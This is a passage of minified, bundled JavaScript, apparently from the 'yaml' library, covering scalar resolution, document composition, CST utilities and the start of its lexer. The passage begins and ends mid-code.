return s(t,"UNEXPECTED_TOKEN",`Expected a flow scalar value, but found: ${n}`),{value:"",type:null,comment:"",range:[r,r+o.length,r+o.length]}}let d=r+o.length,
u=FA.resolveEnd(i,d,e,s);return{value:l,type:a,comment:u.comment,range:[r,d,u.offset]}}function UA(t,e){let s="";switch(t[0]){case"	":s="a tab character";break;case"\
,":s="flow indicator character ,";break;case"%":s="directive indicator character %";break;case"|":case">":{s=`block scalar indicator ${t[0]}`;break}case"@":case"\
`":{s=`reserved character ${t[0]}`;break}}return s&&e(0,"BAD_SCALAR_START",`Plain value cannot start with ${s}`),Oy(t)}function HA(t,e){return(t[t.length-1]!=="\
'"||t.length===1)&&e(t.length,"MISSING_CHAR","Missing closing 'quote"),Oy(t.slice(1,-1)).replace(/''/g,"'")}function Oy(t){let e=/(.*?)\r?\n/sy,s=e.exec(t);if(!s)
return t;let r,n;try{r=new RegExp("(?<![ 	])[ 	]+$"),n=new RegExp("^[ 	]+|(?<![ 	])[ 	]+$","g")}catch{r=/[ \t]+$/,n=/^[ \t]+|[ \t]+$/g}let o=s[1].replace(r,""),
i=" ",a=e.lastIndex;for(;s=e.exec(t);){let c=s[1].replace(n,"");c===""?i===`
`?o+=i:i=`
`:(o+=i+c,i=" "),a=e.lastIndex}let l=/[ \t]*(.*)/sy;return l.lastIndex=a,s=l.exec(t),o+i+(s?.[1]??"")}function BA(t,e){let s="";for(let r=1;r<t.length-1;++r){let n=t[r];
if(!(n==="\r"&&t[r+1]===`
`))if(n===`
`){let{fold:o,offset:i}=zA(t,r);s+=o,r=i}else if(n==="\\"){let o=t[++r],i=GA[o];if(i)s+=i;else if(o===`
`)for(o=t[r+1];o===" "||o==="	";)o=t[++r+1];else if(o==="\r"&&t[r+1]===`
`)for(o=t[++r+1];o===" "||o==="	";)o=t[++r+1];else if(o==="x"||o==="u"||o==="U"){let a=o==="x"?2:o==="u"?4:8;s+=KA(t,r+1,a,e),r+=a}else{let a=t.substr(r-1,2);e(
r-1,"BAD_DQ_ESCAPE",`Invalid escape sequence ${a}`),s+=a}}else if(n===" "||n==="	"){let o=r,i=t[r+1];for(;i===" "||i==="	";)i=t[++r+1];i!==`
`&&!(i==="\r"&&t[r+2]===`
`)&&(s+=r>o?t.slice(o,r+1):n)}else s+=n}return(t[t.length-1]!=='"'||t.length===1)&&e(t.length,"MISSING_CHAR",'Missing closing "quote'),s}function zA(t,e){let s="",
r=t[e+1];for(;(r===" "||r==="	"||r===`
`||r==="\r")&&!(r==="\r"&&t[e+2]!==`
`);)r===`
`&&(s+=`
`),e+=1,r=t[e+1];return s||(s=" "),{fold:s,offset:e}}var GA={0:"\0",a:"\x07",b:"\b",e:"\x1B",f:"\f",n:`
`,r:"\r",t:"	",v:"\v",N:"\x85",_:"\xA0",L:"\u2028",P:"\u2029"," ":" ",'"':'"',"/":"/","\\":"\\","	":"	"};function KA(t,e,s,r){let n=t.substr(e,s),i=n.length===s&&
/^[0-9a-fA-F]+$/.test(n)?parseInt(n,16):NaN;try{return String.fromCodePoint(i)}catch{let a=t.substr(e-2,s+2);return r(e-2,"BAD_DQ_ESCAPE",`Invalid escape sequen\
ce ${a}`),a}}Ny.resolveFlowScalar=VA});var jy=D(Dy=>{"use strict";var kr=re(),Ly=qe(),YA=yu(),QA=ku();function XA(t,e,s,r){let{value:n,type:o,comment:i,range:a}=e.type==="block-scalar"?YA.resolveBlockScalar(
t,e,r):QA.resolveFlowScalar(e,t.options.strict,r),l=s?t.directives.tagName(s.source,u=>r(s,"TAG_RESOLVE_FAILED",u)):null,c;t.options.stringKeys&&t.atKey?c=t.schema[kr.
SCALAR]:l?c=JA(t.schema,n,l,s,r):e.type==="scalar"?c=ZA(t,n,e,r):c=t.schema[kr.SCALAR];let d;try{let u=c.resolve(n,p=>r(s??e,"TAG_RESOLVE_FAILED",p),t.options);
d=kr.isScalar(u)?u:new Ly.Scalar(u)}catch(u){let p=u instanceof Error?u.message:String(u);r(s??e,"TAG_RESOLVE_FAILED",p),d=new Ly.Scalar(n)}return d.range=a,d.source=
n,o&&(d.type=o),l&&(d.tag=l),c.format&&(d.format=c.format),i&&(d.comment=i),d}function JA(t,e,s,r,n){if(s==="!")return t[kr.SCALAR];let o=[];for(let a of t.tags)
if(!a.collection&&a.tag===s)if(a.default&&a.test)o.push(a);else return a;for(let a of o)if(a.test?.test(e))return a;let i=t.knownTags[s];return i&&!i.collection?
(t.tags.push(Object.assign({},i,{default:!1,test:void 0})),i):(n(r,"TAG_RESOLVE_FAILED",`Unresolved tag: ${s}`,s!=="tag:yaml.org,2002:str"),t[kr.SCALAR])}function ZA({
atKey:t,directives:e,schema:s},r,n,o){let i=s.tags.find(a=>(a.default===!0||t&&a.default==="key")&&a.test?.test(r))||s[kr.SCALAR];if(s.compat){let a=s.compat.find(
l=>l.default&&l.test?.test(r))??s[kr.SCALAR];if(i.tag!==a.tag){let l=e.tagString(i.tag),c=e.tagString(a.tag),d=`Value may be parsed as either ${l} or ${c}`;o(n,
"TAG_RESOLVE_FAILED",d,!0)}}return i}Dy.composeScalar=XA});var My=D(Wy=>{"use strict";function eT(t,e,s){if(e){s??(s=e.length);for(let r=s-1;r>=0;--r){let n=e[r];switch(n.type){case"space":case"comment":case"newline":t-=
n.source.length;continue}for(n=e[++r];n?.type==="space";)t+=n.source.length,n=e[++r];break}}return t}Wy.emptyScalarPosition=eT});var Uy=D(xu=>{"use strict";var tT=Bn(),sT=re(),rT=Iy(),Fy=jy(),nT=an(),oT=My(),iT={composeNode:Vy,composeEmptyNode:vu};function Vy(t,e,s,r){let n=t.atKey,{spaceBefore:o,
comment:i,anchor:a,tag:l}=s,c,d=!0;switch(e.type){case"alias":c=aT(t,e,r),(a||l)&&r(e,"ALIAS_PROPS","An alias node must not specify any properties");break;case"\
scalar":case"single-quoted-scalar":case"double-quoted-scalar":case"block-scalar":c=Fy.composeScalar(t,e,l,r),a&&(c.anchor=a.source.substring(1));break;case"bloc\
k-map":case"block-seq":case"flow-collection":try{c=rT.composeCollection(iT,t,e,s,r),a&&(c.anchor=a.source.substring(1))}catch(u){let p=u instanceof Error?u.message:
String(u);r(e,"RESOURCE_EXHAUSTION",p)}break;default:{let u=e.type==="error"?e.message:`Unsupported token (type: ${e.type})`;r(e,"UNEXPECTED_TOKEN",u),d=!1}}return c??
(c=vu(t,e.offset,void 0,null,s,r)),a&&c.anchor===""&&r(a,"BAD_ALIAS","Anchor cannot be an empty string"),n&&t.options.stringKeys&&(!sT.isScalar(c)||typeof c.value!=
"string"||c.tag&&c.tag!=="tag:yaml.org,2002:str")&&r(l??e,"NON_STRING_KEY","With stringKeys, all keys must be strings"),o&&(c.spaceBefore=!0),i&&(e.type==="scal\
ar"&&e.source===""?c.comment=i:c.commentBefore=i),t.options.keepSourceTokens&&d&&(c.srcToken=e),c}function vu(t,e,s,r,{spaceBefore:n,comment:o,anchor:i,tag:a,end:l},c){
let d={type:"scalar",offset:oT.emptyScalarPosition(e,s,r),indent:-1,source:""},u=Fy.composeScalar(t,d,a,c);return i&&(u.anchor=i.source.substring(1),u.anchor===
""&&c(i,"BAD_ALIAS","Anchor cannot be an empty string")),n&&(u.spaceBefore=!0),o&&(u.comment=o,u.range[2]=l),u}function aT({options:t},{offset:e,source:s,end:r},n){
let o=new tT.Alias(s.substring(1));o.source===""&&n(e,"BAD_ALIAS","Alias cannot be an empty string"),o.source.endsWith(":")&&n(e+s.length-1,"BAD_ALIAS","Alias e\
nding in : is ambiguous",!0);let i=e+s.length,a=nT.resolveEnd(r,i,t.strict,n);return o.range=[e,i,a.offset],a.comment&&(o.comment=a.comment),o}xu.composeEmptyNode=
vu;xu.composeNode=Vy});var zy=D(By=>{"use strict";var lT=ao(),Hy=Uy(),cT=an(),dT=po();function uT(t,e,{offset:s,start:r,value:n,end:o},i){let a=Object.assign({_directives:e},t),l=new lT.
Document(void 0,a),c={atKey:!1,atRoot:!0,directives:l.directives,options:l.options,schema:l.schema},d=dT.resolveProps(r,{indicator:"doc-start",next:n??o?.[0],offset:s,
onError:i,parentIndent:0,startOnNewline:!0});d.found&&(l.directives.docStart=!0,n&&(n.type==="block-map"||n.type==="block-seq")&&!d.hasNewline&&i(d.end,"MISSING\
_CHAR","Block collection cannot start on same line with directives-end marker")),l.contents=n?Hy.composeNode(c,n,d,i):Hy.composeEmptyNode(c,d.end,r,null,d,i);let u=l.
contents.range[2],p=cT.resolveEnd(o,u,!1,i);return p.comment&&(l.comment=p.comment),l.range=[s,u,p.offset],l}By.composeDoc=uT});var _u=D(Yy=>{"use strict";var pT=require("process"),fT=cd(),mT=ao(),fo=uo(),Gy=re(),hT=zy(),gT=an();function mo(t){if(typeof t=="number")return[t,t+1];if(Array.
isArray(t))return t.length===2?t:[t[0],t[1]];let{offset:e,source:s}=t;return[e,e+(typeof s=="string"?s.length:1)]}function Ky(t){let e="",s=!1,r=!1;for(let n=0;n<
t.length;++n){let o=t[n];switch(o[0]){case"#":e+=(e===""?"":r?`

`:`
`)+(o.substring(1)||" "),s=!0,r=!1;break;case"%":t[n+1]?.[0]!=="#"&&(n+=1),s=!1;break;default:s||(r=!0),s=!1}}return{comment:e,afterEmptyLine:r}}var $u=class{constructor(e={}){
this.doc=null,this.atDirectives=!1,this.prelude=[],this.errors=[],this.warnings=[],this.onError=(s,r,n,o)=>{let i=mo(s);o?this.warnings.push(new fo.YAMLWarning(
i,r,n)):this.errors.push(new fo.YAMLParseError(i,r,n))},this.directives=new fT.Directives({version:e.version||"1.2"}),this.options=e}decorate(e,s){let{comment:r,
afterEmptyLine:n}=Ky(this.prelude);if(r){let o=e.contents;if(s)e.comment=e.comment?`${e.comment}
${r}`:r;else if(n||e.directives.docStart||!o)e.commentBefore=r;else if(Gy.isCollection(o)&&!o.flow&&o.items.length>0){let i=o.items[0];Gy.isPair(i)&&(i=i.key);let a=i.
commentBefore;i.commentBefore=a?`${r}
${a}`:r}else{let i=o.commentBefore;o.commentBefore=i?`${r}
${i}`:r}}if(s){for(let o=0;o<this.errors.length;++o)e.errors.push(this.errors[o]);for(let o=0;o<this.warnings.length;++o)e.warnings.push(this.warnings[o])}else e.
errors=this.errors,e.warnings=this.warnings;this.prelude=[],this.errors=[],this.warnings=[]}streamInfo(){return{comment:Ky(this.prelude).comment,directives:this.
directives,errors:this.errors,warnings:this.warnings}}*compose(e,s=!1,r=-1){for(let n of e)yield*this.next(n);yield*this.end(s,r)}*next(e){switch(pT.env.LOG_STREAM&&
console.dir(e,{depth:null}),e.type){case"directive":this.directives.add(e.source,(s,r,n)=>{let o=mo(e);o[0]+=s,this.onError(o,"BAD_DIRECTIVE",r,n)}),this.prelude.
push(e.source),this.atDirectives=!0;break;case"document":{let s=hT.composeDoc(this.options,this.directives,e,this.onError);this.atDirectives&&!s.directives.docStart&&
this.onError(e,"MISSING_CHAR","Missing directives-end/doc-start indicator line"),this.decorate(s,!1),this.doc&&(yield this.doc),this.doc=s,this.atDirectives=!1;
break}case"byte-order-mark":case"space":break;case"comment":case"newline":this.prelude.push(e.source);break;case"error":{let s=e.source?`${e.message}: ${JSON.stringify(
e.source)}`:e.message,r=new fo.YAMLParseError(mo(e),"UNEXPECTED_TOKEN",s);this.atDirectives||!this.doc?this.errors.push(r):this.doc.errors.push(r);break}case"do\
c-end":{if(!this.doc){let r="Unexpected doc-end without preceding document";this.errors.push(new fo.YAMLParseError(mo(e),"UNEXPECTED_TOKEN",r));break}this.doc.directives.
docEnd=!0;let s=gT.resolveEnd(e.end,e.offset+e.source.length,this.doc.options.strict,this.onError);if(this.decorate(this.doc,!0),s.comment){let r=this.doc.comment;
this.doc.comment=r?`${r}
${s.comment}`:s.comment}this.doc.range[2]=s.offset;break}default:this.errors.push(new fo.YAMLParseError(mo(e),"UNEXPECTED_TOKEN",`Unsupported token ${e.type}`))}}*end(e=!1,s=-1){
if(this.doc)this.decorate(this.doc,!0),yield this.doc,this.doc=null;else if(e){let r=Object.assign({_directives:this.directives},this.options),n=new mT.Document(
void 0,r);this.atDirectives&&this.onError(s,"MISSING_CHAR","Missing directives-end indicator line"),n.range=[0,s,s],this.decorate(n,!1),yield n}}};Yy.Composer=$u});var Jy=D(Wa=>{"use strict";var bT=yu(),yT=ku(),wT=uo(),Qy=Qn();function kT(t,e=!0,s){if(t){let r=(n,o,i)=>{let a=typeof n=="number"?n:Array.isArray(n)?n[0]:n.offset;
if(s)s(a,o,i);else throw new wT.YAMLParseError([a,a+1],o,i)};switch(t.type){case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":return yT.resolveFlowScalar(
t,e,r);case"block-scalar":return bT.resolveBlockScalar({options:{strict:e}},t,r)}}return null}function vT(t,e){let{implicitKey:s=!1,indent:r,inFlow:n=!1,offset:o=-1,
type:i="PLAIN"}=e,a=Qy.stringifyString({type:i,value:t},{implicitKey:s,indent:r>0?" ".repeat(r):"",inFlow:n,options:{blockQuote:!0,lineWidth:-1}}),l=e.end??[{type:"\
newline",offset:-1,indent:r,source:`
`}];switch(a[0]){case"|":case">":{let c=a.indexOf(`
`),d=a.substring(0,c),u=a.substring(c+1)+`
`,p=[{type:"block-scalar-header",offset:o,indent:r,source:d}];return Xy(p,l)||p.push({type:"newline",offset:-1,indent:r,source:`
`}),{type:"block-scalar",offset:o,indent:r,props:p,source:u}}case'"':return{type:"double-quoted-scalar",offset:o,indent:r,source:a,end:l};case"'":return{type:"s\
ingle-quoted-scalar",offset:o,indent:r,source:a,end:l};default:return{type:"scalar",offset:o,indent:r,source:a,end:l}}}function xT(t,e,s={}){let{afterKey:r=!1,implicitKey:n=!1,
inFlow:o=!1,type:i}=s,a="indent"in t?t.indent:null;if(r&&typeof a=="number"&&(a+=2),!i)switch(t.type){case"single-quoted-scalar":i="QUOTE_SINGLE";break;case"dou\
ble-quoted-scalar":i="QUOTE_DOUBLE";break;case"block-scalar":{let c=t.props[0];if(c.type!=="block-scalar-header")throw new Error("Invalid block scalar header");
i=c.source[0]===">"?"BLOCK_FOLDED":"BLOCK_LITERAL";break}default:i="PLAIN"}let l=Qy.stringifyString({type:i,value:e},{implicitKey:n||a===null,indent:a!==null&&a>
0?" ".repeat(a):"",inFlow:o,options:{blockQuote:!0,lineWidth:-1}});switch(l[0]){case"|":case">":$T(t,l);break;case'"':Su(t,l,"double-quoted-scalar");break;case"\
'":Su(t,l,"single-quoted-scalar");break;default:Su(t,l,"scalar")}}function $T(t,e){let s=e.indexOf(`
`),r=e.substring(0,s),n=e.substring(s+1)+`
`;if(t.type==="block-scalar"){let o=t.props[0];if(o.type!=="block-scalar-header")throw new Error("Invalid block scalar header");o.source=r,t.source=n}else{let{offset:o}=t,
i="indent"in t?t.indent:-1,a=[{type:"block-scalar-header",offset:o,indent:i,source:r}];Xy(a,"end"in t?t.end:void 0)||a.push({type:"newline",offset:-1,indent:i,source:`\

`});for(let l of Object.keys(t))l!=="type"&&l!=="offset"&&delete t[l];Object.assign(t,{type:"block-scalar",indent:i,props:a,source:n})}}function Xy(t,e){if(e)for(let s of e)
switch(s.type){case"space":case"comment":t.push(s);break;case"newline":return t.push(s),!0}return!1}function Su(t,e,s){switch(t.type){case"scalar":case"double-q\
uoted-scalar":case"single-quoted-scalar":t.type=s,t.source=e;break;case"block-scalar":{let r=t.props.slice(1),n=e.length;t.props[0].type==="block-scalar-header"&&
(n-=t.props[0].source.length);for(let o of r)o.offset+=n;delete t.props,Object.assign(t,{type:s,source:e,end:r});break}case"block-map":case"block-seq":{let n={type:"\
newline",offset:t.offset+e.length,indent:t.indent,source:`
`};delete t.items,Object.assign(t,{type:s,source:e,end:[n]});break}default:{let r="indent"in t?t.indent:-1,n="end"in t&&Array.isArray(t.end)?t.end.filter(o=>o.type===
"space"||o.type==="comment"||o.type==="newline"):[];for(let o of Object.keys(t))o!=="type"&&o!=="offset"&&delete t[o];Object.assign(t,{type:s,indent:r,source:e,
end:n})}}}Wa.createScalarToken=vT;Wa.resolveAsScalar=kT;Wa.setScalarValue=xT});var ew=D(Zy=>{"use strict";var _T=t=>"type"in t?Fa(t):Ma(t);function Fa(t){switch(t.type){case"block-scalar":{let e="";for(let s of t.props)e+=Fa(s);return e+t.
source}case"block-map":case"block-seq":{let e="";for(let s of t.items)e+=Ma(s);return e}case"flow-collection":{let e=t.start.source;for(let s of t.items)e+=Ma(s);
for(let s of t.end)e+=s.source;return e}case"document":{let e=Ma(t);if(t.end)for(let s of t.end)e+=s.source;return e}default:{let e=t.source;if("end"in t&&t.end)
for(let s of t.end)e+=s.source;return e}}}function Ma({start:t,key:e,sep:s,value:r}){let n="";for(let o of t)n+=o.source;if(e&&(n+=Fa(e)),s)for(let o of s)n+=o.
source;return r&&(n+=Fa(r)),n}Zy.stringify=_T});var nw=D(rw=>{"use strict";var Cu=Symbol("break visit"),ST=Symbol("skip children"),tw=Symbol("remove item");function vr(t,e){"type"in t&&t.type==="document"&&(t=
{start:t.start,value:t.value}),sw(Object.freeze([]),t,e)}vr.BREAK=Cu;vr.SKIP=ST;vr.REMOVE=tw;vr.itemAtPath=(t,e)=>{let s=t;for(let[r,n]of e){let o=s?.[r];if(o&&
"items"in o)s=o.items[n];else return}return s};vr.parentCollection=(t,e)=>{let s=vr.itemAtPath(t,e.slice(0,-1)),r=e[e.length-1][0],n=s?.[r];if(n&&"items"in n)return n;
throw new Error("Parent collection not found")};function sw(t,e,s){let r=s(e,t);if(typeof r=="symbol")return r;for(let n of["key","value"]){let o=e[n];if(o&&"it\
ems"in o){for(let i=0;i<o.items.length;++i){let a=sw(Object.freeze(t.concat([[n,i]])),o.items[i],s);if(typeof a=="number")i=a-1;else{if(a===Cu)return Cu;a===tw&&
(o.items.splice(i,1),i-=1)}}typeof r=="function"&&n==="key"&&(r=r(e,t))}}return typeof r=="function"?r(e,t):r}rw.visit=vr});var Va=D(ct=>{"use strict";var Eu=Jy(),CT=ew(),ET=nw(),Au="\uFEFF",Tu="",Pu="",Ru="",AT=t=>!!t&&"items"in t,TT=t=>!!t&&(t.type==="scalar"||t.type==="single-q\
uoted-scalar"||t.type==="double-quoted-scalar"||t.type==="block-scalar");function PT(t){switch(t){case Au:return"<BOM>";case Tu:return"<DOC>";case Pu:return"<FL\
OW_END>";case Ru:return"<SCALAR>";default:return JSON.stringify(t)}}function RT(t){switch(t){case Au:return"byte-order-mark";case Tu:return"doc-mode";case Pu:return"\
flow-error-end";case Ru:return"scalar";case"---":return"doc-start";case"...":return"doc-end";case"":case`
`:case`\r
`:return"newline";case"-":return"seq-item-ind";case"?":return"explicit-key-ind";case":":return"map-value-ind";case"{":return"flow-map-start";case"}":return"flow\
-map-end";case"[":return"flow-seq-start";case"]":return"flow-seq-end";case",":return"comma"}switch(t[0]){case" ":case"	":return"space";case"#":return"comment";case"\
%":return"directive-line";case"*":return"alias";case"&":return"anchor";case"!":return"tag";case"'":return"single-quoted-scalar";case'"':return"double-quoted-sca\
lar";case"|":case">":return"block-scalar-header"}return null}ct.createScalarToken=Eu.createScalarToken;ct.resolveAsScalar=Eu.resolveAsScalar;ct.setScalarValue=Eu.
setScalarValue;ct.stringify=CT.stringify;ct.visit=ET.visit;ct.BOM=Au;ct.DOCUMENT=Tu;ct.FLOW_END=Pu;ct.SCALAR=Ru;ct.isCollection=AT;ct.isScalar=TT;ct.prettyToken=
PT;ct.tokenType=RT});var Ou=D(iw=>{"use strict";var ho=Va();function Nt(t){switch(t){case void 0:case" ":case`
`:case"\r":case"	":return!0;default:return!1}}var ow=new Set("0123456789ABCDEFabcdef"),IT=new Set("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxy\
z-#;/?:@&=+$_.!~*'()"),Ua=new Set(",[]{}"),qT=new Set(` ,[]{}
\r	`),Iu=t=>!t||qT.has(t),qu=class{constructor(){this.atEnd=!1,this.blockScalarIndent=-1,this.blockScalarKeep=!1,this.buffer="",this.flowKey=!1,this.flowLevel=0,
this.indentNext=0,this.indentValue=0,this.lineEndPos=null,this.next=null,this.pos=0}*lex(e,s=!1){if(e){if(typeof e!="string")throw TypeError("source is not a st\
ring");this.buffer=this.buffer?this.buffer+e:e,this.lineEndPos=null}this.atEnd=!s;let r=this.next??"stream";for(;r&&(s||this.hasChars(1));)r=yield*this.parseNext(
r)}atLineEnd(){let e=this.pos,s=this.buffer[e];for(;s===" "||s==="	";)s=this.buffer[++e];return!s||s==="#"||s===`
`?!0:s==="\r"?this.buffer[e+1]===`
`:!1}charAt(e){return this.buffer[this.pos+e]}continueScalar(e){let s=this.buffer[e];if(this.indentNext>0){let r=0;for(;s===" ";)s=this.buffer[++r+e];if(s==="\r"){
let n=this.buffer[r+e+1];if(n===`
`||!n&&!this.atEnd)return e+r+1}return s===`
`||r>=this.indentNext||!s&&!this.atEnd?e+r:-1}if(s==="-"||s==="."){let r=this.buffer.substr(e,3);if((r==="---"||r==="...")&&Nt(this.buffer[e+3]))return-1}return e}getLine(){
let e=this.lineEndPos;return(typeof e!="number"||e!==-1&&e<this.pos)&&(e=this.buffer.indexOf(`
`,this.pos),this.lineEndPos=e),e===-1?this.atEnd?this.buffer.substring(this.pos):null:(this.buffer[e-1]==="\r"&&(e-=1),this.buffer.substring(this.pos,e))}hasChars(e){
return this.pos+e<=this.buffer.length}setNext(e){return this.buffer=this.buffer.substring(this.pos),this.pos=0,this.lineEndPos=null,this.next=e,null}peek(e){return this.
buffer.substr(this.pos,e)}*parseNext(e){switch(e){case"stream":return yield*this.parseStream();case"line-start":return yield*this.parseLineStart();case"block-st\
art":return yield*this.parseBlockStart();case"doc":return yield*this.parseDocument();case"flow":return yield*this.parseFlowCollection();case"quoted-scalar":return yield*this.
parseQuotedScalar();case"block-scalar":return yield*this.parseBlockScalar();case"plain-scalar":return yield*this.parsePlainScalar()}}*parseStream(){let e=this.getLine();
if(e===null)return this.setNext("stream");if(e[0]===ho.BOM&&(yield*this.pushCount(1),e=e.substring(1)),e[0]==="%"){let s=e.length,r=e.indexOf("#");for(;r!==-1;){
let o=e[r-1];if(o===" "||o==="	"){s=r-1;break}else r=e.indexOf("#",r+1)}for(;;){let o=e[s-1];if(o===" "||o==="	")s-=1;else break}let n=(yield*this.pushCount(s))+
(yield*this.pushSpaces(!0));return yield*this.pushCount(e.length-n),this.pushNewline(),"stream"}if(this.atLineEnd()){let s=yield*this.pushSpaces(!0);return yield*this.
pushCount(e.length-s),yield*this.pushNewline(),"stream"}return yield ho.DOCUMENT,yield*this.parseLineStart()}*parseLineStart(){let e=this.charAt(0);if(!e&&!this.
atEnd)return this.setNext("line-start");if(e==="-"||e==="."){if(!this.atEnd&&!this.hasChars(4))return this.setNext("line-start");let s=this.peek(3);if((s==="---"||
s==="...")&&Nt(this.charAt(3)))return yield*this.pushCount(3),this.indentValue=0,this.indentNext=0,s==="---"?"doc":"stream"}return this.indentValue=yield*this.pushSpaces(
!1),this.indentNext>this.indentValue&&!Nt(this.charAt(1))&&(this.indentNext=this.indentValue),yield*this.parseBlockStart()}*parseBlockStart(){let[e,s]=this.peek(
2);if(!s&&!this.atEnd)return this.setNext("block-start");if((e==="-"||e==="?"||e===":")&&Nt(s)){let r=(yield*this.pushCount(1))+(yield*this.pushSpaces(!0));return this.
indentNext=this.indentValue+1,this.indentValue+=r,"block-start"}return"doc"}*parseDocument(){yield*this.pushSpaces(!0);let e=this.getLine();if(e===null)return this.
setNext("doc");let s=yield*this.pushIndicators();switch(e[s]){case"#":yield*this.pushCount(e.length-s);case void 0:return yield*this.pushNewline(),yield*this.parseLineStart();case"\
{":case"[":return yield*this.pushCount(1),this.flowKey=!1,this.flowLevel=1,"flow";case"}":case"]":return yield*this.pushCount(1),"doc";case"*":return yield*this.
pushUntil(Iu),"doc";case'"':case"'":return yield*this.parseQuotedScalar();case"|":case">":return s+=yield*this.parseBlockScalarHeader(),s+=yield*this.pushSpaces(
!0),yield*this.pushCount(e.length-s),yield*this.pushNewline(),yield*this.parseBlockScalar();default:return yield*this.parsePlainScalar()}}*parseFlowCollection(){
let e,s,r=-1;do e=yield*this.pushNewline(),e>0?(s=yield*this.pushSpaces(!1),this.indentValue=r=s):s=0,s+=yield*this.pushSpaces(!0);while(e+s>0);let n=this.getLine();
if(n===null)return this.setNext("flow");if((r!==-1&&r<this.indentNext&&n[0]!=="#"||r===0&&(n.startsWith("---")||n.startsWith("..."))&&Nt(n[3]))&&!(r===this.indentNext-
1&&this.flowLevel===1&&(n[0]==="]"||n[0]==="}")))return this.flowLevel=0,yield ho.FLOW_END,yield*this.parseLineStart();let o=0;for(;n[o]===",";)o+=yield*this.pushCount(
1),o+=yield*this.pushSpaces(!0),this.flowKey=!1;switch(o+=yield*this.pushIndicators(),n[o]){case void 0:return"flow";case"#":return yield*this.pushCount(n.length-
o),"flow";case"{":case"[":return yield*this.pushCount(1),this.flowKey=!1,this.flowLevel+=1,"flow";case"}":case"]":return yield*this.pushCount(1),this.flowKey=!0,
this.flowLevel-=1,this.flowLevel?"flow":"doc";case"*":return yield*this.pushUntil(Iu),"flow";case'"':case"'":return this.flowKey=!0,yield*this.parseQuotedScalar();case"\
:":{let i=this.charAt(1);if(this.flowKey||Nt(i)||i===",")return this.flowKey=!1,yield*this.pushCount(1),yield*this.pushSpaces(!0),"flow"}default:return this.flowKey=
!1,yield*this.parsePlainScalar()}}*parseQuotedScalar(){let e=this.charAt(0),s=this.buffer.indexOf(e,this.pos+1);if(e==="'")for(;s!==-1&&this.buffer[s+1]==="'";)
s=this.buffer.indexOf("'",s+2);else for(;s!==-1;){let o=0;for(;this.buffer[s-1-o]==="\\";)o+=1;if(o%2===0)break;s=this.buffer.indexOf('"',s+1)}let r=this.buffer.
substring(0,s),n=r.indexOf(`
`,this.pos);if(n!==-1){for(;n!==-1;){let o=this.continueScalar(n+1);if(o===-1)break;n=r.indexOf(`
`,o)}n!==-1&&(s=n-(r[n-1]==="\r"?2:1))}if(s===-1){if(!this.atEnd)return this.setNext("quoted-scalar");s=this.buffer.length}return yield*this.pushToIndex(s+1,!1),
this.flowLevel?"flow":"doc"}*parseBlockScalarHeader(){this.blockScalarIndent=-1,this.blockScalarKeep=!1;let e=this.pos;for(;;){let s=this.buffer[++e];if(s==="+")
this.blockScalarKeep=!0;else if(s>"0"&&s<="9")this.blockScalarIndent=Number(s)-1;else if(s!=="-")break}return yield*this.pushUntil(s=>Nt(s)||s==="#")}*parseBlockScalar(){
let e=this.pos-1,s=0,r;e:for(let o=this.pos;r=this.buffer[o];++o)switch(r){case" ":s+=1;break;case`
`:e=o,s=0;break;case"\r":{let i=this.buffer[o+1];if(!i&&!this.atEnd)return this.setNext("block-scalar");if(i===`
`)break}default:break e}if(!r&&!this.atEnd)return this.setNext("block-scalar");if(s>=this.indentNext){this.blockScalarIndent===-1?this.indentNext=s:this.indentNext=
this.blockScalarIndent+(this.indentNext===0?1:this.indentNext);do{let o=this.continueScalar(e+1);if(o===-1)break;e=this.buffer.indexOf(`
`,o)}while(e!==-1);if(e===-1){if(!this.atEnd)return this.setNext("block-scalar");e=this.buffer.length}}let n=e+1;for(r=this.buffer[n];r===" ";)r=this.buffer[++n];
if(r==="	"){for(;r==="	"||r===" "||r==="\r"||r===`
`;)r=this.buffer[++n];e=n-1}else if(!this.blockScalarKeep)do{let o=e-1,i=this.buffer[o];i==="\r"&&(i=this.buffer[--o]);let a=o;for(;i===" ";)i=this.buffer[--o];
if(i===`
`&&o>=this.pos&&o+1+s>a)e=o;else break}while(!0);return yield ho.SCALAR,yield*this.pushToIndex(e+1,!0),yield*this.parseLineStart()}*parsePlainScalar(){let e=this.
flowLevel>0,s=this.pos-1,r=this.pos-1,n;for(;n=this.buffer[++r];)if(n===":"){let o=this.buffer[r+1];if(Nt(o)||e&&Ua.has(o))break;s=r}else if(Nt(n)){let o=this.buffer[r+
1];if(n==="\r"&&(o===`
`?(r+=1,n=`
`,o=this.buffer[r+1]):s=r),o==="#"||e&&Ua.has(o))break;if(n===`
`){let i=this.continueScalar(r+1);if(i===-1)break;r=Math.max(r,i-2)}}else{if(e&&Ua.has(n))break;s=r}return!n&&!this.atEnd?this.setNext("plain-scalar"):(yield ho.
SCALAR,yield*this.pushToIndex(s+1,!0),e?"flow":"doc")}*pushCount(e){return e>0?(yield this.buffer.substr(this.pos,e),this.pos+=e,e):0}*pushToIndex(e,s){let r=this.
buffer.slice(this.pos,e);return r?(yield r,this.pos+=r.length,r.length):(s&&(yield""),0)}*pushIndicators(){let e=0;e:for(;;){switch(this.charAt(0)){case"!":e+=yield*this.
pushTag(),e+=yield*this.pushSpaces(!0);continue e;case"&":e+=yield*this.pushUntil(Iu),e+=yield*this.pushSpaces(!0);continue e;case"-":case"?":case":":{let s=this.
flowLevel>0,r=this.charAt(1);if(Nt(r)||s&&Ua.has(r)){s?this.flowKey&&(this.flowKey=!1):this.indentNext=this.indentValue+1,e+=yield*this.pushCount(1),e+=yield*this.
pushSpaces(!0);continue e}}}break e}return e}*pushTag(){if(this.charAt(1)==="<"){let e=this.pos+2,s=this.buffer[e];for(;!Nt(s)&&s!==">";)s=this.buffer[++e];return yield*this.
pushToIndex(s===">"?e+1:e,!1)}else{let e=this.pos+1,s=this.buffer[e];for(;s;)if(IT.has(s))s=this.buffer[++e];else if(s==="%"&&ow.has(this.buffer[e+1])&&ow.has(this.
buffer[e+2]))s=this.buffer[e+=3];else break;return yield*this.pushToIndex(e,!1)}}*pushNewline(){let e=this.buffer[this.pos];return e===`
`?yield*this.pushCount(1):e==="\r"&&this.charAt(1)===`
`?yield*this.pushCount(2):0}*pushSpaces(e){let s=this.pos-1,r;do r=this.buffer[++s];while(r===" "||e&&r==="	");let n=s-this.pos;return n>0&&(yield this.buffer.substr(
